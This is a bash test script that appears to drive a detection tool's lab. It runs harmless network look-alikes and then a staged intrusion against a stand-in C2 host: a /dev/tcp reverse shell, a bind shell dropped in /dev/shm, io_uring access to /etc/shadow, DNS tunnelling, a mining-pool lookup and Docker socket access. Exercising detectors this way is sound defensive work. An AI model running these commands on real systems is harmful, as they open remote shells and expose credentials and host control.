#!/usr/bin/env bash
# The network part of the scripted intrusion, with benign look-alikes. Runs
# inside the network lab (scripts/net/lab.sh), where 10.66.0.1 is the C2
# (c2.evil.example, port 4444), 127.0.0.53 a DNS server and
# /var/run/docker.sock a fake Docker daemon:
#   nsenter --target LABPID --net --mount bash scripts/net-intrusion-workload.sh WORKDIR
# RG_CURING names a built scripts/net/io-uring-curing.c (the io_uring step
# is skipped, and says so, without it).
set -u
work=${1:?workdir}
here=$(cd "$(dirname "$0")" && pwd)
py=/usr/bin/python3
mkdir -p "$work"

# --- benign look-alikes: none of these should alert ---
getent ahosts updates.example.org > /dev/null                  # a lookup (A and AAAA at once)
curl -s -o /dev/null http://updates.example.org:8080/          # a lookup, then a connect
"$py" "$here/net/udp-beacon.py" 10.66.0.3 5353 3 0.01           # UDP to a port nobody watches
"$py" -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock'.replace('docker', 'nope'))" 2>/dev/null || true

# --- the intrusion ---
# A reverse shell: bash resolves the C2's name, connects to it, and runs an interactive shell on the connection.
# (HOME without start-up files: the host's .bashrc would only add noise.)
HOME="$work" bash -c 'bash -i >& /dev/tcp/c2.evil.example/4444 0>&1' 2>/dev/null
# A bind shell: a program dropped in /dev/shm listens on 31337 and hands a shell to who knocks.
cp "$py" /dev/shm/.rg-bind && { /dev/shm/.rg-bind "$here/net/bind-shell.py" 31337 & }
"$py" "$here/net/knock.py" 10.66.0.1 31337 'id; exit' > /dev/null
wait
# io_uring "curing": /etc/shadow opened and the C2 reached with no open or connect syscall.
if [ -n "${RG_CURING:-}" ]; then
  "$RG_CURING" open /etc/shadow connect 10.66.0.1 4444 dns 127.0.0.53 c2.evil.example > /dev/null
else
  echo "net-intrusion: RG_CURING not set: io_uring step skipped" >&2
fi
# A UDP beacon to a watched port (IRC's 6667), 20 datagrams from one socket.
"$py" "$here/net/udp-beacon.py" 10.66.0.1 6667 20 0.01
# DNS tunnelling (data in a long label, TXT) and a mining pool's name.
"$py" "$here/net/dns-query.py" 127.0.0.53 MZXW6YTBOI2DGNRXHA4TCMRTGQ2TMNZYHE3DIMZVGQ3TKNRX.t.tunnel.example TXT > /dev/null
getent ahosts pool.supportxmr.com > /dev/null
# The Docker socket, from a program that is not docker: the host's root is one API call away.
curl -s -o /dev/null --unix-socket /var/run/docker.sock http://localhost/containers/json

rm -f /dev/shm/.rg-bind
exit 0
